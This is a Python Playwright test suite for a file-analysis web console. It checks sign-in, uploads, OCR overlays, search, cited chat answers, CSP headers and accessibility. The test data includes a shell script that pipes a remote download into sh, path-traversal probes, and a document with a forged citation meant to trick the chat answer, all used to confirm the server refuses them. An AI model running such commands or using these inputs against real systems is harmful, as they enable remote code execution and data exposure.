"""The web console in a real browser (Debian's Chromium through Playwright) against a real
server: sign in, drop files and see them complete, a refused file's reason, the boxes drawn over
a picture, tags edited, search by visible text and by meaning, a large file sent in parts, the
usage panel, a phone-sized screen, no Content-Security-Policy violation, and axe-core's scan.
Screenshots go to ``test-artefacts/`` (or ``$SCOPIX_TEST_ARTEFACTS``)."""

from __future__ import annotations

import io
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from PIL import Image, ImageDraw
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, Route, expect

from browser_support import axe_violations, chromium, drop_files, screenshot, signed_in
from media_support import text_image
from scopix_server import Settings
from server_support import LiveServer, make_key, start_server, wait_until_terminal_sync

pytestmark = [pytest.mark.socket, pytest.mark.browser]

MiB = 1024 * 1024
DOCUMENT = (
    "The quarterly VAT return must be filed before the end of the month. A late filing is "
    "charged a penalty and interest by the revenue office."
)
PARAPHRASE = "fine for paying tax after the deadline"  # (shares no word with DOCUMENT)


@dataclass
class Console:
    live: LiveServer
    key: str
    browser: Browser
    problems: list[str] = field(default_factory=list)  # CSP violations, page errors

    @property
    def api(self) -> httpx.Client:
        return httpx.Client(
            base_url=self.live.base_url, headers={"Authorization": f"Bearer {self.key}"}, timeout=30
        )

    def page(self, **options: Any) -> Page:
        page = self.browser.new_page(**options)

        def on_console(message: ConsoleMessage) -> None:
            if message.type == "error" and "Content Security Policy" in message.text:
                self.problems.append(message.text)

        page.on("console", on_console)
        page.on("pageerror", lambda error: self.problems.append(f"page error: {error}"))
        return page


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    settings = Settings(
        data_dir=tmp_path_factory.mktemp("console"),
        workers=2,
        # a file from 5 MiB on goes as a direct upload in 5 MiB parts
        console_direct_upload_bytes=5 * MiB,
        direct_upload_multipart_bytes=5 * MiB,
        direct_upload_part_bytes=5 * MiB,
    )
    live = start_server(settings)
    try:
        with chromium() as browser:
            yield Console(live, make_key(settings, "console-tenant", tier="enterprise"), browser)
    finally:
        live.stop()


@pytest.fixture(autouse=True)
def _no_policy_violations(console: Console) -> Iterator[None]:
    console.problems.clear()
    yield
    assert console.problems == []


def _png(image: Image.Image) -> bytes:
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _sign() -> bytes:
    image, _ = text_image([("HARBOUR", 120, 200), ("LIGHTHOUSE TOURS", 120, 520)])
    return _png(image)


def _blocks(seed: int) -> bytes:
    rng = random.Random(seed)
    image = Image.new("RGB", (640, 480), (rng.randrange(256), 120, 90))
    draw = ImageDraw.Draw(image)
    for _ in range(10):
        x, y = rng.randrange(560), rng.randrange(400)
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        draw.rectangle((x, y, x + rng.randrange(40, 160), y + rng.randrange(40, 120)), fill=colour)
    return _png(image)


def _row(page: Page, name: str) -> Any:
    return page.locator(f'#upload-queue li[data-name="{name}"]')


def _wait_done(page: Page, names: list[str], timeout_ms: int = 180_000) -> None:
    for name in names:
        expect(_row(page, name)).to_have_attribute("data-state", "done", timeout=timeout_ms)


@pytest.fixture(scope="module")
def uploaded(console: Console) -> dict[str, str]:
    """Three files dropped on the console and processed; a shell script refused. Their ids."""
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    drop_files(
        page,
        [
            ("harbour-sign.png", "image/png", _sign()),
            ("vat-note.txt", "text/plain", DOCUMENT.encode()),
            ("blocks.png", "image/png", _blocks(7)),
            ("install.sh", "text/x-sh", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
        ],
    )
    refused = _row(page, "install.sh")
    expect(refused).to_have_attribute("data-state", "refused", timeout=30_000)
    _wait_done(page, ["harbour-sign.png", "vat-note.txt", "blocks.png"])
    screenshot(page, "uploaded")
    ids = {}
    for name in ("harbour-sign.png", "vat-note.txt", "blocks.png"):
        link = _row(page, name).locator("a").get_attribute("href") or ""
        ids[name] = link.rsplit("/", 1)[-1]
    ids["refusal"] = refused.locator(".state").inner_text()
    page.close()
    return ids


def test_the_console_is_served_with_a_strict_policy(console: Console) -> None:
    response = httpx.get(f"{console.live.root_url}/")
    assert response.status_code == 200
    assert "text/html" in response.headers["content-type"]
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    assert response.headers["x-frame-options"] == "DENY"
    asset = httpx.get(f"{console.live.root_url}/console/assets/js/main.js")
    assert asset.status_code == 200
    assert "javascript" in asset.headers["content-type"]
    assert asset.headers["x-content-type-options"] == "nosniff"
    assert asset.headers["content-security-policy"] == policy
    # nothing on the page comes from elsewhere
    assert not re.search(r"(src|href)=\"(https?:)?//", response.text)
    assert httpx.get(f"{console.live.root_url}/console/assets/../console.py").status_code == 404


def test_sign_in_keeps_the_key_out_of_addresses(console: Console) -> None:
    page = console.page()
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    page.goto(f"{console.live.root_url}/")
    page.fill("#api-key", "scopix_abcdefgh_" + "x" * 40)
    page.click("form.sign-in button[type=submit]")
    expect(page.locator("#sign-in-error")).to_contain_text("does not know this key")
    page.fill("#api-key", "not a key")
    page.click("form.sign-in button[type=submit]")
    expect(page.locator("#sign-in-error")).to_contain_text("not an API key")
    screenshot(page, "sign-in")

    page.fill("#api-key", console.key)
    page.click("form.sign-in button[type=submit]")
    expect(page.locator("#tenant")).to_contain_text("console-tenant")
    expect(page.locator("#tenant .tier")).to_have_text("enterprise")
    assert page.evaluate("sessionStorage.getItem('scopix.apiKey')") == console.key
    assert page.evaluate("localStorage.length") == 0
    secret = console.key.split("_")[-1]
    assert all(secret not in request.url for request in requests)
    assert secret not in page.url

    page.click("#sign-out")
    expect(page.locator("#api-key")).to_be_visible()
    assert page.evaluate("sessionStorage.getItem('scopix.apiKey')") is None
    page.close()


def test_dropped_files_complete_and_a_refusal_shows_the_reason(
    console: Console, uploaded: dict[str, str]
) -> None:
    with console.api as api:
        for name in ("harbour-sign.png", "vat-note.txt", "blocks.png"):
            details = api.get(f"/files/{uploaded[name]}").json()
            assert details["filename"] == name
            assert details["is_terminal"] is True
        listed = api.get("/files", params={"limit": 100}).json()
    assert "install.sh" not in {item["filename"] for item in listed["items"]}
    # the server's own words, not a generic failure
    assert uploaded["refusal"].startswith("Refused:")
    assert "script" in uploaded["refusal"].lower() or "not supported" in uploaded["refusal"]

    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    cards = page.locator("#gallery .file-card")
    expect(cards).to_have_count(listed["total_count"])
    for name in ("harbour-sign.png", "vat-note.txt", "blocks.png"):
        card = page.locator(f'#gallery .file-card[data-id="{uploaded[name]}"]')
        expect(card).to_have_attribute("data-state", "ready")
    expect(page.locator(f'.file-card[data-id="{uploaded["blocks.png"]}"] img')).to_have_js_property(
        "complete", True
    )
    # dropping a file again: the queue says it is already there, and links to it
    drop_files(page, [("blocks-again.png", "image/png", _blocks(7))])
    again = _row(page, "blocks-again.png")
    expect(again).to_have_attribute("data-state", "duplicate", timeout=30_000)
    assert again.locator("a").get_attribute("href") == f"#/files/{uploaded['blocks.png']}"
    screenshot(page, "gallery")
    page.close()


def test_the_gallery_follows_a_card_still_processing(
    console: Console, uploaded: dict[str, str]
) -> None:
    """A card drawn while its file was processing turns ready when the poll sees it done (the
    first listing is made to say "processing"; the poll asks the real server)."""
    slow = uploaded["blocks.png"]
    polled: list[str] = []

    def first_listing_says_processing(route: Route) -> None:
        if "ids=" in route.request.url:
            polled.append(route.request.url)
            route.continue_()
            return
        response = route.fetch()
        listing = response.json()
        for item in listing["items"]:
            if item["id"] == slow:
                item.update(is_terminal=False, status="processing")
        route.fulfill(response=response, json=listing)

    page = console.page()
    page.route("**/api/v2/files?*", first_listing_says_processing)
    signed_in(page, console.live.root_url, console.key)
    card = page.locator(f'#gallery .file-card[data-id="{slow}"]')
    expect(card).to_have_attribute("data-state", "processing")
    expect(card).to_have_attribute("data-state", "ready", timeout=15_000)
    assert polled and all(slow in unquote(url) for url in polled)
    page.close()


def test_the_file_page_draws_the_regions_the_api_returns(
    console: Console, uploaded: dict[str, str]
) -> None:
    file_id = uploaded["harbour-sign.png"]
    with console.api as api:
        details = api.get(f"/files/{file_id}").json()
    regions = details["text_regions"]
    assert regions, "OCR found no text on the sign"
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    page.click(f'.file-card[data-id="{file_id}"] a')
    expect(page.locator("#file-status")).to_have_text("Ready")
    expect(page.locator("#preview")).to_have_js_property("complete", True)
    drawn = page.locator("svg.overlay polygon.region")
    expect(drawn).to_have_count(len(regions))
    expect(page.locator("svg.overlay polygon.face")).to_have_count(len(details["faces"] or []))
    # hovering a box shows its text and confidence
    drawn.first.hover()
    tooltip = page.locator("#tooltip")
    expect(tooltip).to_be_visible()
    expect(tooltip).to_contain_text(regions[0]["text"])
    expect(tooltip).to_contain_text("confidence")
    # the boxes sit where the API says, over the picture
    picture = page.locator("#preview").bounding_box()
    box = drawn.first.bounding_box()
    assert picture is not None and box is not None
    expected_x = picture["x"] + regions[0]["bbox"]["x"] * picture["width"]
    assert abs(box["x"] - expected_x) < 4
    expect(page.locator("#visible-text")).to_contain_text("LIGHTHOUSE")
    expect(page.locator("#section-details")).to_be_visible()
    screenshot(page, "file")
    page.close()


def test_a_tag_edited_in_the_page_is_seen_through_the_api(
    console: Console, uploaded: dict[str, str]
) -> None:
    file_id = uploaded["blocks.png"]
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    page.goto(f"{console.live.root_url}/#/files/{file_id}")
    expect(page.locator("#file-status")).to_have_text("Ready")
    page.fill("#new-tag", "holiday-2026")
    page.press("#new-tag", "Enter")
    expect(page.locator("#tag-list")).to_contain_text("holiday-2026")
    expect(page.locator("#tag-form [role=status]")).to_have_text("Saved.")
    with console.api as api:
        assert "holiday-2026" in api.get(f"/files/{file_id}").json()["user_tags"]
    page.click("button[aria-label='Remove tag holiday-2026']")
    expect(page.locator("#tag-list")).not_to_contain_text("holiday-2026")
    with console.api as api:
        assert "holiday-2026" not in api.get(f"/files/{file_id}").json()["user_tags"]
    page.close()


def test_search_by_visible_text_and_by_meaning(console: Console, uploaded: dict[str, str]) -> None:
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    first = page.locator("#gallery .file-card").first

    page.fill("#search", "lighthouse")
    page.press("#search", "Enter")
    expect(first).to_have_attribute("data-id", uploaded["harbour-sign.png"])

    page.fill("#search", PARAPHRASE)
    page.press("#search", "Enter")
    expect(first).to_have_attribute("data-id", uploaded["vat-note.txt"])
    screenshot(page, "search")

    # filters: documents only, then nothing that failed
    page.fill("#search", "")
    page.press("#search", "Enter")
    page.select_option("#media_types", "document")
    expect(page.locator("#gallery .file-card")).to_have_count(1)
    page.select_option("#media_types", "")
    page.select_option("#status", "failed")
    expect(page.locator("#result-count")).to_have_text("Nothing matches.")
    page.click("#clear-filters")
    expect(page.locator("#gallery .file-card")).not_to_have_count(0)
    page.close()


def test_ask_the_library_and_follow_a_citation(console: Console, uploaded: dict[str, str]) -> None:
    """Retrieval mode (the server has no language model): the answer streams into the page,
    cites the document as a link to its page, and the conversation is the API's."""
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    page.click("#chat-link")
    page.fill("#chat-question", "What happens when the VAT return is filed late?")
    page.keyboard.press("Control+Enter")
    answer = page.locator("#chat-log .message.assistant").last
    expect(answer).to_have_attribute("data-state", "complete", timeout=60_000)
    expect(answer).to_contain_text("No language model is configured")
    cited = answer.locator(f'.sources a[href="#/files/{uploaded["vat-note.txt"]}"]')
    expect(cited).to_have_text("vat-note.txt")
    match = re.search(r"#/chat/([0-9a-f-]{36})$", page.url)
    assert match, page.url
    listed = page.locator(f'.chat-sessions a[href="#/chat/{match[1]}"]')
    expect(listed).to_have_text("What happens when the VAT return is filed late?")
    with console.api as api:
        messages = api.get(f"/chat/sessions/{match[1]}").json()["messages"]
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert messages[1]["content"] == answer.locator(".text").inner_text()
    screenshot(page, "chat")
    # the conversation is there again after a reload, and listed
    page.reload()
    expect(page.locator("#chat-log .message")).to_have_count(2)
    expect(page.locator(f'.chat-sessions a[href="#/chat/{match[1]}"]')).to_have_attribute(
        "aria-current", "page"
    )
    page.locator("#chat-log .sources a").first.click()
    expect(page.locator("#file-status")).to_be_visible()
    assert page.url.endswith(f"#/files/{uploaded['vat-note.txt']}")
    page.close()


def test_a_citation_written_in_a_document_is_not_a_link(console: Console) -> None:
    """A document may hold text shaped like a citation (written by someone hoping the answer
    will quote it): only the files the server cited become links."""
    key = make_key(console.live.settings, "console-forged")
    with httpx.Client(
        base_url=console.live.base_url, headers={"Authorization": f"Bearer {key}"}, timeout=60
    ) as api:
        hidden = api.post("/files/upload", files={"file": ("private.png", _blocks(11))})
        hidden_id = hidden.json()["image_id"]
        note = f"The ferry boats leave the harbour at nine. Details: [file:{hidden_id}]"
        sent = api.post("/files/upload", files={"file": ("ferry.txt", note.encode())})
        for file_id in (hidden_id, sent.json()["image_id"]):
            wait_until_terminal_sync(api, file_id, timeout=120)
    page = console.page()
    signed_in(page, console.live.root_url, key)
    page.click("#chat-link")
    page.fill("#chat-question", "When do the ferry boats leave the harbour?")
    page.keyboard.press("Control+Enter")
    answer = page.locator("#chat-log .message.assistant").last
    expect(answer).to_have_attribute("data-state", "complete", timeout=60_000)
    expect(answer.locator(".text")).to_contain_text(f"[file:{hidden_id}]")  # quoted, as text
    expect(answer.locator(f'a[href="#/files/{hidden_id}"]')).to_have_count(0)
    expect(answer.locator(".sources a")).to_have_text(["ferry.txt"])
    page.close()


def test_a_large_file_goes_as_a_direct_upload_in_parts(console: Console) -> None:
    noise = Image.frombytes("RGB", (1900, 1900), random.Random(3).randbytes(1900 * 1900 * 3))
    data = _png(noise)
    assert len(data) > 10 * MiB
    page = console.page()
    puts: list[str] = []
    page.on("request", lambda r: puts.append(r.url) if r.method == "PUT" else None)
    signed_in(page, console.live.root_url, console.key)
    page.set_input_files(
        "#file-input", files=[{"name": "noise.png", "mimeType": "image/png", "buffer": data}]
    )
    row = _row(page, "noise.png")
    expect(row).to_have_attribute("data-state", "done", timeout=240_000)
    assert len(puts) == -(-len(data) // (5 * MiB))  # one PUT per part
    assert all("/storage/uploads/" in url or "X-Amz-" in url for url in puts)
    assert row.locator("progress").evaluate("p => p.value") == 100
    file_id = (row.locator("a").get_attribute("href") or "").rsplit("/", 1)[-1]
    with console.api as api:
        assert api.get(f"/files/{file_id}").json()["size_bytes"] == len(data)
        api.delete(f"/files/{file_id}")
    page.close()


def test_a_storage_that_refuses_the_browser_falls_back_to_the_server(console: Console) -> None:
    """A bucket without a CORS rule for the console: its PUTs fail; the bytes go via the API."""
    noise = Image.frombytes("RGB", (1450, 1450), random.Random(4).randbytes(1450 * 1450 * 3))
    data = _png(noise)
    assert len(data) > 5 * MiB
    page = console.page()
    refused: list[str] = []

    def refuse(route: Any) -> None:
        if route.request.method != "PUT":  # (thumbnails come from the storage too)
            route.continue_()
            return
        refused.append(route.request.url)
        route.abort("accessdenied")

    page.route(lambda url: "/storage/uploads/" in url or "X-Amz-" in url, refuse)
    signed_in(page, console.live.root_url, console.key)
    page.set_input_files(
        "#file-input", files=[{"name": "fallback.png", "mimeType": "image/png", "buffer": data}]
    )
    row = _row(page, "fallback.png")
    expect(row).to_have_attribute("data-state", "done", timeout=240_000)
    assert len(refused) == 1  # the first part was refused; nothing else went to the storage
    file_id = (row.locator("a").get_attribute("href") or "").rsplit("/", 1)[-1]
    with console.api as api:
        assert api.get(f"/files/{file_id}").json()["size_bytes"] == len(data)
        api.delete(f"/files/{file_id}")
    page.close()


def test_usage_panel_and_a_phone_screen(console: Console, uploaded: dict[str, str]) -> None:
    page = console.page(viewport={"width": 390, "height": 844}, is_mobile=True)
    signed_in(page, console.live.root_url, console.key)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    screenshot(page, "phone-gallery")
    page.goto(f"{console.live.root_url}/#/files/{uploaded['harbour-sign.png']}")
    expect(page.locator("#file-status")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    screenshot(page, "phone-file")

    page.click("#usage-link")
    with console.api as api:
        tenant = api.get("/tenant").json()
    expect(page.locator("#quota")).to_contain_text("enterprise tier")
    expect(page.locator("#usage-files")).to_have_text(str(tenant["usage"]["files"]))
    meter = page.locator("#quota-meter")
    assert meter.get_attribute("max") == "10000"  # the enterprise tier's monthly uploads
    assert meter.get_attribute("value") == str(tenant["usage"]["uploads_this_month"])
    screenshot(page, "phone-usage")
    page.close()


def test_the_skip_link_stays_on_the_page(console: Console, uploaded: dict[str, str]) -> None:
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    page.goto(f"{console.live.root_url}/#/files/{uploaded['blocks.png']}")
    expect(page.locator("#file-status")).to_have_text("Ready")
    # (after a route change the focus is on the view itself; the skip link comes first)
    expect(page.locator("main")).to_be_focused()
    page.focus("a.skip")
    page.keyboard.press("Enter")
    expect(page.locator("main")).to_be_focused()
    expect(page.locator("#file-status")).to_be_visible()
    assert page.url.endswith(f"#/files/{uploaded['blocks.png']}")
    page.close()


def test_signing_out_cancels_the_upload_queue(console: Console) -> None:
    page = console.page()
    page.goto(f"{console.live.root_url}/")
    page.fill("#api-key", console.key)
    page.click("button[type=submit]")
    page.wait_for_selector("body[data-gallery-ready='true']")
    # a slow link (20 kB/s up): the queue is still busy when the user signs out
    cdp = page.context.new_cdp_session(page)
    cdp.send("Network.enable")
    cdp.send(
        "Network.emulateNetworkConditions",
        {"offline": False, "latency": 0, "downloadThroughput": -1, "uploadThroughput": 20_000},
    )
    many = [(f"noise-{n}.png", "image/png", _blocks(100 + n)) for n in range(8)]
    drop_files(page, many)
    expect(page.locator("#upload-queue li")).to_have_count(8)
    page.click("#sign-out")
    expect(page.locator("#api-key")).to_be_visible()
    page.fill("#api-key", console.key)
    page.click("button[type=submit]")
    page.wait_for_selector("#dropzone")
    expect(page.locator("#upload-queue li")).to_have_count(0)
    page.wait_for_timeout(1500)
    with console.api as api:
        listed = api.get("/files", params={"limit": 100}).json()["items"]
    names = {item["filename"] for item in listed}
    sent = {name for name, _, _ in many} & names
    assert len(sent) < 3, f"signing out did not stop the queue: {sorted(sent)} arrived"
    page.close()


def test_keyboard_only_reaches_a_file(console: Console, uploaded: dict[str, str]) -> None:
    page = console.page()
    signed_in(page, console.live.root_url, console.key)
    for _ in range(60):
        page.keyboard.press("Tab")
        focused = page.evaluate("document.activeElement.closest('.file-card')?.dataset.id || null")
        if focused:
            break
    else:
        pytest.fail("no file card is reachable with the Tab key")
    page.keyboard.press("Enter")
    expect(page.locator("#file-status")).to_be_visible()
    assert f"#/files/{focused}" in page.url
    page.close()


def test_polling_slows_down_on_a_tier_with_few_requests(console: Console) -> None:
    """A free key (10 requests a minute): each poller takes at most an eighth of them."""
    key = make_key(console.live.settings, "console-free", tier="free")
    page = console.page()
    signed_in(page, console.live.root_url, key)
    expect(page.locator("#tenant .tier")).to_have_text("free")
    delay = page.evaluate(
        "import('/console/assets/js/state.js').then((state) => state.pollDelay(1500))"
    )
    assert delay == 48_000  # 60 s / (10 / 8)
    page.close()


@pytest.mark.parametrize("view", ["sign-in", "gallery", "file", "document", "usage", "chat"])
def test_no_serious_accessibility_violations(
    console: Console, uploaded: dict[str, str], view: str
) -> None:
    page = console.page()
    if view == "sign-in":
        page.goto(f"{console.live.root_url}/")
        page.wait_for_selector("#api-key")
    else:
        signed_in(page, console.live.root_url, console.key)
        target = {
            "gallery": "#/",
            "file": f"#/files/{uploaded['harbour-sign.png']}",
            "document": f"#/files/{uploaded['vat-note.txt']}",
            "usage": "#/usage",
            "chat": "#/chat",
        }[view]
        page.goto(f"{console.live.root_url}/{target}")
        page.wait_for_selector("#file-status, #quota, #gallery .file-card, #chat-question")
    violations = axe_violations(page)
    assert violations == [], [(v["id"], v["help"], len(v["nodes"])) for v in violations]


def test_the_api_docs_render_offline_under_a_strict_policy(console: Console) -> None:
    """Swagger UI from the server's own files: the operations are listed, nothing breaks the
    page's policy, and the distribution's other pages are not served on this origin."""
    page = console.page()
    before = len(console.problems)
    page.goto(f"{console.live.root_url}/api/v2/docs")
    expect(page.locator(".opblock-summary-path").first).to_be_visible(timeout=30_000)
    expect(page.locator('.opblock-summary-path[data-path="/api/v2/files/upload"]')).to_have_count(1)
    assert console.problems[before:] == []
    page.close()
    docs = httpx.get(f"{console.live.base_url}/docs")
    policy = docs.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert docs.headers["X-Frame-Options"] == "DENY"
    for name in ("index.html", "oauth2-redirect.html", "swagger-initializer.js", "../../x"):
        assert httpx.get(f"{console.live.base_url}/docs/assets/{name}").status_code == 404


def test_the_console_can_be_turned_off(tmp_path: Path) -> None:
    live = start_server(Settings(data_dir=tmp_path, workers=0, console=False))
    try:
        assert httpx.get(f"{live.root_url}/").status_code == 404
        assert httpx.get(f"{live.root_url}/console/assets/js/main.js").status_code == 404
        assert httpx.get(f"{live.root_url}/api/v2/docs").status_code == 200
    finally:
        live.stop()
